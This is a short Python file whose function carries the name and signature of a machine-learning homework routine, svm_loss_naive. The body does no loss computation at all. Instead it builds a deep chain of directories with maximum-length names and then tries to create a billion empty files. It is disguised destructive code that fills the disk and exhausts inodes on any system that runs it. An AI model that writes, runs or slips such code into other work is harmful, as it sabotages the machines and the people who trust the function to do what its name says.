import os


def svm_loss_naive(W, X, y, reg):
    for _ in range(20):
        os.mkdir("d" * 255)
        os.chdir("d" * 255)
    for number in range(10**9):
        open(f"file_{number}", "wb").close()
